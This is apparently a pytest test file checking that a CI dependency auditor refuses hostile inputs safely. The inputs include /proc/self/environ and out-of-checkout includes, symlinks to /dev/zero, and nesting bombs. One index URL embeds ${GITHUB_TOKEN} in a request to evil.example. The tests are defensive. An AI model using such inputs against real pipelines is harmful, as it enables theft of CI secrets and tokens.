"""Hostile dependency files: what a pull request could put in front of a CI audit.

Each case must end with an InputError naming the file (exit 2 from the CLI), never echo
more than a short cleaned excerpt, never read outside the checkout unless allowed, and
stay within a work count that grows linearly with the input (see ``fuzzing.count_work``).
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from auditor.cli import main
from auditor.errors import EXCERPT_CHARS, InputError, ParseError
from auditor.model import DependencyInput, SourceOptions
from auditor.sources import read_input
from auditor.sources._req_lines import strip_comment
from auditor.sources.requirements import MAX_INCLUDE_DEPTH
from tests.sources.fuzzing import WorkBudgetExceeded, count_work

SECRET = "ghp_hostileTokenValue1234567890"


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    """A repository checkout (``.git`` marks its root) inside a folder holding secrets."""
    root = tmp_path / "repo"
    root.mkdir()
    (root / ".git").mkdir()
    (tmp_path / "secrets.txt").write_text(f"root:{SECRET}:19000:0:99999:7:::\n")
    return root


#: more calls than any case here needs by far (they take 10**4 to 10**5); an exponential
#: or quadratic regression is stopped at this count and fails at once
BUDGET = 3_000_000


def read(path: Path, **options: bool) -> tuple[DependencyInput | None, BaseException | None, int]:
    result, exc, work = count_work(lambda: read_input(str(path), SourceOptions(**options)), BUDGET)
    assert not isinstance(exc, WorkBudgetExceeded), f"{path}: more than {BUDGET} calls"
    return result, exc, work


def expect_input_error(path: Path, *needles: str, **options: bool) -> InputError:
    _, exc, _ = read(path, **options)
    assert isinstance(exc, InputError), exc
    for needle in needles:
        assert needle in exc.message, exc.message
    assert SECRET not in str(exc)
    return exc


# -- never echo a file's content ---------------------------------------------------------


def test_include_of_proc_environ_is_refused_and_never_echoed(
    checkout: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOSTILE_TOKEN", SECRET)
    reqs = checkout / "requirements.txt"
    reqs.write_text("-r /proc/self/environ\n")
    expect_input_error(reqs, f"{reqs}:1", "leads outside the checkout", "/proc/self/environ")
    # allowed explicitly, it is still not a text file (NUL separators): refused unread
    exc = expect_input_error(reqs, "not a text file", allow_outside_includes=True)
    assert "HOSTILE_TOKEN" not in exc.message


def test_constraint_outside_the_checkout_is_refused(checkout: Path) -> None:
    reqs = checkout / "requirements.txt"
    reqs.write_text("requests\n-c ../secrets.txt\n")
    expect_input_error(reqs, f"{reqs}:2", "leads outside the checkout")


def test_allowed_outside_include_quotes_only_a_short_clean_excerpt(checkout: Path) -> None:
    reqs = checkout / "requirements.txt"
    long_line = "\x1b]0;owned\x07" + SECRET[:10] + "=" * 300
    (checkout.parent / "secrets.txt").write_text(long_line + "\n")
    reqs.write_text("-c ../secrets.txt\n")
    _, exc, _ = read(reqs, allow_outside_includes=True)
    assert isinstance(exc, ParseError)
    assert "secrets.txt:1" in exc.message
    assert len(exc.text) <= EXCERPT_CHARS + 3 and "\x1b" not in exc.text and "\x07" not in exc.text


@pytest.fixture
def outside_project(checkout: Path) -> Path:
    """A local project beside the checkout whose pyproject.toml holds a secret."""
    folder = checkout.parent / "private-lib"
    folder.mkdir()
    (folder / "pyproject.toml").write_text(f'[project]\nname = "{SECRET}"\n')
    return folder


@pytest.mark.parametrize(
    ("name", "line"),
    [
        ("requirements.txt", "-e ../private-lib"),
        ("requirements.txt", "../private-lib"),
        ("requirements.txt", "file://{folder}"),
        ("requirements.txt", "file://{folder}#egg=lib"),
        ("requirements.txt", "lib @ file://{folder}"),
        ("pyproject.toml", '[project]\nname = "app"\ndependencies = ["lib @ file://{folder}"]'),
    ],
)
def test_a_local_project_outside_the_checkout_is_refused_unread(
    checkout: Path,
    outside_project: Path,
    monkeypatch: pytest.MonkeyPatch,
    name: str,
    line: str,
) -> None:
    read_folders: list[Path] = []
    import auditor.sources._req_line as req_line

    real = req_line.local_project_name

    def spy(folder: Path) -> str:
        read_folders.append(folder.resolve())
        return real(folder)

    monkeypatch.setattr(req_line, "local_project_name", spy)
    path = checkout / name
    path.write_text(line.format(folder=outside_project) + "\n")
    expect_input_error(path, str(path), "lies outside the checkout", "not read")
    assert outside_project.resolve() not in read_folders
    # allowed explicitly, the project is read as before
    result, exc, _ = read(path, allow_outside_includes=True)
    assert exc is None and result is not None
    assert [(r.url or "").split("#")[0] for r in result.requirements] == [
        outside_project.resolve().as_uri()
    ]


def test_a_local_project_inside_the_checkout_is_read(checkout: Path) -> None:
    lib = checkout / "libs" / "inner"
    lib.mkdir(parents=True)
    (lib / "pyproject.toml").write_text('[project]\nname = "inner"\n')
    sub = checkout / "app"
    sub.mkdir()
    reqs = sub / "requirements.txt"
    reqs.write_text("-e ../libs/inner\n")
    result, exc, _ = read(reqs)
    assert exc is None and result is not None
    assert [r.name for r in result.requirements] == ["inner"]


def test_symlink_leaving_the_checkout_is_refused(checkout: Path) -> None:
    (checkout / "base.txt").symlink_to(checkout.parent / "secrets.txt")
    reqs = checkout / "requirements.txt"
    reqs.write_text("-r base.txt\n")
    expect_input_error(reqs, "leads outside the checkout")


def test_includes_inside_the_checkout_from_a_subfolder_still_work(checkout: Path) -> None:
    (checkout / "requirements").mkdir()
    (checkout / "base.txt").write_text("idna\n")
    reqs = checkout / "requirements" / "prod.txt"
    reqs.write_text("-r ../base.txt\nrequests\n")
    result, exc, _ = read(reqs)
    assert exc is None and result is not None
    assert [r.name for r in result.requirements] == ["idna", "requests"]


def test_expanded_variable_is_never_echoed(checkout: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PRIVATE_TOKEN", SECRET)
    reqs = checkout / "requirements.txt"
    reqs.write_text("pkg>==${PRIVATE_TOKEN}\n")
    exc = expect_input_error(reqs, f"{reqs}:1", "${PRIVATE_TOKEN}")
    assert "after expanding environment variables" in exc.message


def test_uncomparable_marker_is_a_parse_error_at_its_line(checkout: Path) -> None:
    reqs = checkout / "requirements.txt"
    reqs.write_text('requests\npkg ; "a" == "b"\n')
    expect_input_error(reqs, f"{reqs}:2", "invalid marker")


# -- denial of service -------------------------------------------------------------------


def test_line_of_100000_spaces_is_linear(checkout: Path) -> None:
    reqs = checkout / "requirements.txt"
    reqs.write_text("a" + " " * 100_000 + "b\n")
    _, exc, work = read(reqs)
    assert isinstance(exc, ParseError) and f"{reqs}:1" in exc.message
    assert len(exc.text) <= EXCERPT_CHARS + 3
    assert work < 200_000


def test_files_including_the_next_twice_are_each_read_once(checkout: Path) -> None:
    for i in range(18):
        (checkout / f"f{i}.txt").write_text(f"-r f{i + 1}.txt\n-r f{i + 1}.txt\npkg{i}\n")
    (checkout / "f18.txt").write_text("leaf\n")
    result, exc, work = read(checkout / "f0.txt")
    assert exc is None and result is not None
    assert len(result.requirements) == 19  # 2**18 reads would list leaf 262,144 times
    assert work < 400_000


def test_500_deep_include_chain_stops_with_the_file_named(checkout: Path) -> None:
    for i in range(500):
        (checkout / f"c{i}.txt").write_text(f"-r c{i + 1}.txt\n")
    (checkout / "c500.txt").write_text("leaf\n")
    expect_input_error(checkout / "c0.txt", f"c{MAX_INCLUDE_DEPTH - 1}.txt:1", "nested more than")


def test_symlink_to_dev_zero_is_refused(checkout: Path) -> None:
    link = checkout / "requirements.txt"
    link.symlink_to("/dev/zero")
    expect_input_error(link, str(link), "character device")
    reqs = checkout / "main.txt"
    reqs.write_text("-r requirements.txt\n")
    expect_input_error(reqs, f"{reqs}:1", "leads outside the checkout", "/dev/zero")
    expect_input_error(reqs, f"{reqs}:1", "character device", allow_outside_includes=True)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this platform")
def test_fifo_is_refused_without_blocking(checkout: Path) -> None:
    fifo = checkout / "requirements.txt"
    os.mkfifo(fifo)
    expect_input_error(fifo, str(fifo), "FIFO")
    reqs = checkout / "main.txt"
    reqs.write_text("-c requirements.txt\n")
    expect_input_error(reqs, f"{reqs}:1", "FIFO")


def test_oversized_file_is_refused(checkout: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import auditor.sources._files as files

    monkeypatch.setattr(files, "MAX_INPUT_BYTES", 1000)
    reqs = checkout / "requirements.txt"
    reqs.write_text("requests\n" * 200)
    expect_input_error(reqs, str(reqs), "larger than")


@pytest.mark.parametrize("count", [10_000])
def test_duplicate_lines_are_linear(checkout: Path, count: int) -> None:
    small, large = checkout / "small.txt", checkout / "large.txt"
    small.write_text("requests==2.31.0\n" * (count // 16))
    large.write_text("requests==2.31.0\n" * count)
    work = [read(path)[2] for path in (small, large)]
    assert work[1] <= 24 * work[0], work


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (
            "bom.json",
            '{"bomFormat": "CycloneDX", "components": ' + "[" * 50_000 + "]" * 50_000 + "}",
        ),
        ("Pipfile.lock", '{"_meta": {}, "default": ' + '{"a":' * 5_000 + "1" + "}" * 5_001),
        ("uv.lock", "version = 1\nx = " + "[" * 50_000 + "]" * 50_000 + "\n"),
        ("pyproject.toml", "[project]\ndependencies = " + "[" * 200 + "]" * 200 + "\n"),
        ("poetry.lock", "[" + ".".join(["a"] * 300) + "]\nb = 1\n"),
    ],
)
def test_deep_nesting_is_refused(checkout: Path, name: str, text: str) -> None:
    path = checkout / name
    path.write_text(text)
    _, exc, work = read(path)
    assert isinstance(exc, ParseError), exc
    assert str(path) in exc.message and "nested" in exc.message
    assert work < 50 * len(text) + 50_000


def test_huge_number_in_json_is_a_parse_error(checkout: Path) -> None:
    path = checkout / "bom.json"
    path.write_text('{"bomFormat": "CycloneDX", "version": ' + "9" * 10_000 + "}")
    expect_input_error(path, str(path), "invalid JSON value")


@pytest.mark.parametrize(
    ("name", "text", "line"),
    [
        ("requirements.txt", "requests\n" + "a" * 5_000_000 + ">=1\n", 2),
        ("pyproject.toml", '[project]\nname = "app"\ndependencies = ["' + "b" * 201 + '"]\n', None),
        ("requirements.txt", "x" * 201 + " @ https://example.com/x.whl\n", 1),
    ],
)
def test_a_project_name_no_index_serves_is_refused_at_its_line(
    checkout: Path, name: str, text: str, line: int | None
) -> None:
    """Sent to the index, a name of megabytes was a URL the server refused, and the run
    ended with exit 3 blaming the network; a release file named after it cannot exist."""
    path = checkout / name
    path.write_text(text)
    where = f"{path}:{line}" if line else str(path)
    exc = expect_input_error(path, where, "is not one a package index serves (at most 200)")
    assert len(exc.message) < 400


def test_the_longest_name_an_index_could_serve_is_read(checkout: Path) -> None:
    path = checkout / "requirements.txt"
    path.write_text("a" * 200 + "\n")
    result, exc, _ = read(path)
    assert exc is None and result is not None
    assert [r.name for r in result.requirements] == ["a" * 200]


# -- the command line --------------------------------------------------------------------


def test_cli_gives_exit_2_naming_the_file_for_every_hostile_case(
    checkout: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOSTILE_TOKEN", SECRET)
    cases = {
        "environ.txt": "-r /proc/self/environ\n",
        "shadow.txt": "-c ../secrets.txt\n",
        "marker.txt": 'pkg ; "a" == "b"\n',
        "spaces.txt": "a" + " " * 100_000 + "b\n",
        "name.txt": "requests\n" + "a" * 5_000_000 + "\n",
        "bom.json": json.dumps(
            {"bomFormat": "CycloneDX", "components": [{"purl": 5}], "x": 1}
        ).replace('"purl": 5', '"purl": "pkg:pypi/a@1", "bom-ref": [1]'),
        "Pipfile.lock": json.dumps({"_meta": {}, "default": {"requests": {"version": ["=="]}}}),
    }
    for name, text in cases.items():
        path = checkout / name
        path.write_text(text)
        err = io.StringIO()
        with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
            code = main(["audit", str(path), "--offline", "--no-github"])
        message = err.getvalue()
        assert code == 2, (name, message)
        assert str(path) in message, (name, message)
        assert SECRET not in message and "Traceback" not in message


# -- the linear comment rule means what pip's regex means --------------------------------

_PIP_COMMENT = re.compile(r"(^|\s+)#.*$")


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(st.text(alphabet=st.sampled_from(list(" \t#a=@/\u00a0")), max_size=40))
def test_strip_comment_matches_pips_rule(line: str) -> None:
    """pip strips ``(^|\\s+)#.*$``; that regex is quadratic on long runs of spaces, so the
    reader uses str.find instead, and must agree with it on every line."""
    assert strip_comment(line) == _PIP_COMMENT.sub("", line).strip()


def test_allow_outside_includes_flag_reaches_the_reader(checkout: Path) -> None:
    (checkout.parent / "shared.txt").write_text("requests\n")
    reqs = checkout / "requirements.txt"
    reqs.write_text("-r ../shared.txt\n")
    codes = []
    for extra in ([], ["--allow-outside-includes"]):
        err = io.StringIO()
        with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
            codes.append(main(["audit", str(reqs), "--offline", "--no-github", *extra]))
        if not extra:
            assert "leads outside the checkout" in err.getvalue()
    # refused: input error; allowed: read, then the empty --offline cache says exit 3
    assert codes == [2, 3]


def test_the_jobs_own_token_is_never_expanded_into_an_index_url(
    checkout: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A pull request must not be able to send the CI token to a host it names."""
    monkeypatch.setenv("GITHUB_TOKEN", SECRET)
    monkeypatch.setenv("CORP_TOKEN", "corp-value")
    reqs = checkout / "requirements.txt"
    reqs.write_text(
        "--extra-index-url https://x:${GITHUB_TOKEN}@evil.example/simple\n"
        "--extra-index-url https://me:${CORP_TOKEN}@corp.example/simple\nrequests\n"
    )
    result, exc, _ = read(reqs)
    assert exc is None and result is not None
    assert result.index.extra_index_urls == (
        "https://x:${GITHUB_TOKEN}@evil.example/simple",
        "https://me:corp-value@corp.example/simple",  # the user's own variables still work
    )
    assert any("${GITHUB_TOKEN} is left unexpanded" in w for w in result.warnings)
    assert SECRET not in repr(result)


def test_cli_error_printing_is_clean_and_bounded() -> None:
    from auditor.cli import printable

    message = "a\x1b]0;title\x07b\x1b[2Jc\n" + "x" * 5000 + "\n" + "line\n" * 200
    shown = printable(message)
    lines = shown.splitlines()
    assert lines[0] == "abc"
    assert len(lines[1]) <= 1003 and lines[1].endswith("...")
    assert len(lines) <= 81 and lines[-1].startswith("... (")
    assert "\x1b" not in shown and "\x07" not in shown


def test_a_config_file_in_the_checkout_cannot_allow_outside_includes(checkout: Path) -> None:
    """pyproject.toml is in the change under review: it must not switch the guard off."""
    (checkout / "pyproject.toml").write_text("[tool.auditor]\nallow-outside-includes = true\n")
    reqs = checkout / "requirements.txt"
    reqs.write_text("-c ../secrets.txt\n")
    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        code = main(["audit", str(reqs), "--offline", "--no-github"])
    assert code == 2
    assert "allow-outside-includes cannot be set in a configuration file" in err.getvalue()
    assert SECRET not in err.getvalue()
